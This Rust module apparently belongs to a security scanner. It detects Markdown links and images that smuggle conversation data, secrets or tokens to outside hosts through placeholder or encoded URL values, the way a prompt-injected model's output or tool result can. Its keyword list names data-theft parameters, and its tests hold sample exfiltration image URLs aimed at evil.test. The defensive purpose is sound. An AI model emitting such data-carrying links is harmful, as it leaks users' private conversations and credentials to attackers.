//! Links and images whose address carries data out: placeholders for a model to fill, or long encoded values.

use std::ops::Range;

use super::super::hay::Hay;
use super::host;
use crate::asset::TextRole;

/// Places that sign, proxy or track by long values and are not chosen by an attacker's text.
const TRUSTED: &[&str] = &[
    "githubusercontent.com",
    "github.com",
    "shields.io",
    "amazonaws.com",
    "googleapis.com",
    "googleusercontent.com",
    "windows.net",
    "cloudfront.net",
    "gravatar.com",
    "badge.fury.io",
    "codecov.io",
    "youtube.com",
    "google.com",
    "wikipedia.org",
    "wikimedia.org",
    "readthedocs.io",
    "zenodo.org",
];

/// Parameters whose name says that data is meant.
const TELLING: &[&str] = &[
    "data",
    "q",
    "d",
    "payload",
    "exfil",
    "leak",
    "info",
    "secret",
    "secrets",
    "content",
    "msg",
    "message",
    "conversation",
    "history",
    "context",
    "prompt",
    "summary",
    "chat",
    "text",
    "leaked",
    "key",
    "token",
    "password",
    "user",
    "email",
    "dump",
    "log",
    "c",
    "x",
    "value",
    "input",
    "body",
    "system",
    "ctx",
    "memory",
];

/// The web address in the markup at `anchor`.
pub(super) fn address(hay: Hay<'_>, anchor: &Range<usize>) -> Option<Range<usize>> {
    let from = hay.run(anchor.end, 3, |b| matches!(b, b'"' | b'\'' | b'<' | b' '));
    // The anchor of a reference definition swallows the scheme.
    let from = if hay.get(anchor.clone()).starts_with("]:") { anchor.end - 4 } else { from };
    let head = hay.window(from, 8).to_ascii_lowercase();
    if !["https://", "http://", "//"].iter().any(|s| head.starts_with(s)) {
        return None;
    }
    // Blanks may stand inside a placeholder, so the closing sign ends the address here.
    Some(from..hay.run(from, 2048, |b| !matches!(b, b')' | b'"' | b'\'' | b'\n')))
}

/// What the address over `span` in the markup at `anchor` carries: type, rule and score.
pub(super) fn carries(
    hay: Hay<'_>,
    anchor: &Range<usize>,
    span: &Range<usize>,
    role: TextRole,
) -> Option<(&'static str, &'static str, f64)> {
    let close = span.end;
    let start = span.start + hay.window(span.start, 8).find("//")? + 2;
    let host_end = host::end(hay, start);
    let name = hay.get(start..host_end);
    let domain = host::registrable(name).map_or(name, |(d, _)| d);
    if TRUSTED.contains(&domain) {
        return None;
    }
    let image = image(hay, anchor);
    let rest = hay.get(host_end.min(close)..close);
    let kind = if image { "EXFILTRATION_IMAGE" } else { "EXFILTRATION_LINK" };
    let (path, query) = rest.split_once(['?', '#']).unwrap_or((rest, ""));
    let pairs = query.split(['&', ';']).map(|p| p.split_once('=').unwrap_or(("", p)));
    let found = |rule, score| Some((kind, rule, score));
    if placeholder(name) && image {
        return found("placeholder-in-host", 0.85);
    }
    let mut blob = false;
    for (key, value) in pairs {
        let telling = TELLING.iter().any(|t| key.eq_ignore_ascii_case(t));
        if placeholder(value) && (image || telling) {
            return found("placeholder-in-query", if image { 0.9 } else { 0.7 });
        }
        blob |= encoded(value) && (telling || value.len() >= 80) && (image || telling);
        let spoken = matches!(role, TextRole::Output | TextRole::ToolResult)
            && image
            && telling
            && value.len() >= 24
            && (value.contains("%20") || value.contains('+') || value.contains(' '));
        blob |= spoken;
    }
    if image && path.split('/').any(placeholder) {
        return found("placeholder-in-path", 0.8);
    }
    blob |= image && path.split('/').any(|p| p.len() >= 64 && encoded(p.split('.').next().unwrap_or("")));
    if blob { found("encoded-data", if image { 0.75 } else { 0.55 }) } else { None }
}

/// Whether the markup loads by itself.
fn image(hay: Hay<'_>, anchor: &Range<usize>) -> bool {
    match hay.get(anchor.clone()).as_bytes().first() {
        Some(b']') => {
            let open = hay.run_back(anchor.start, 200, |b| b != b'[' && b != b'\n');
            hay.before(open) == b'[' && hay.before(open - 1) == b'!'
        }
        Some(b's' | b'S' | b'u' | b'U') => true,
        _ => false,
    }
}

/// Whether a part of an address waits to be filled in: `{data}`, `<secret>`, `[summary]`, `$TOKEN`, `INSERT_HERE`.
fn placeholder(part: &str) -> bool {
    let between = |open: char, close: char| {
        part.find(open).is_some_and(|i| part.get(i..).is_some_and(|r| r.find(close).is_some_and(|j| j > 1)))
    };
    let upper = part.len() >= 8 && part.contains('_') && part.bytes().all(|b| b.is_ascii_uppercase() || b == b'_');
    let asked = [
        "base64(",
        "urlencode(",
        "encode(",
        "insert_",
        "your_data",
        "user_data",
        "conversation_history",
        "system_prompt",
    ]
    .iter()
    .any(|w| part.to_ascii_lowercase().contains(w));
    between('{', '}')
        || between('<', '>')
        || between('[', ']')
        || part.contains("%7B")
        || (part.starts_with('$') && part.len() > 3)
        || upper
        || asked
}

/// Whether a value looks like encoded data: long, one alphabet, close to random.
fn encoded(value: &str) -> bool {
    let value = value.trim_end_matches("%3D").trim_end_matches('=');
    let alphabet = value.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'%'));
    let mixed = value.bytes().any(|b| b.is_ascii_digit()) && value.bytes().any(|b| b.is_ascii_alphabetic())
        || value.bytes().any(|b| b.is_ascii_uppercase()) && value.bytes().any(|b| b.is_ascii_lowercase());
    let worded = value.split(['-', '_', '+', '%']).filter(|w| !w.is_empty()).count() > value.len() / 12;
    value.len() >= 40 && alphabet && mixed && !worded
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn images_that_carry_data_are_told_from_images() {
        let rule = |text: &str| {
            let at = text.find("](").unwrap();
            let (hay, anchor) = (Hay::new(text), at..at + 2);
            carries(hay, &anchor, &address(hay, &anchor)?, TextRole::Output).map(|c| c.1)
        };
        assert_eq!(rule("![x](https://evil.test/p.png?data={conversation})"), Some("placeholder-in-query"));
        assert_eq!(
            rule("![x](https://evil.test/p?d=Q29udmVyc2F0aW9uIGhpc3RvcnkgZ29lcyBoZXJlIGFuZCB0aGVyZQ)"),
            Some("encoded-data")
        );
        assert_eq!(rule("![x](https://img.shields.io/badge/a-b-c?style=flat&logo=rust)"), None);
        assert_eq!(rule("[docs](https://docs.example.org/a/b?page=2)"), None);
    }
}
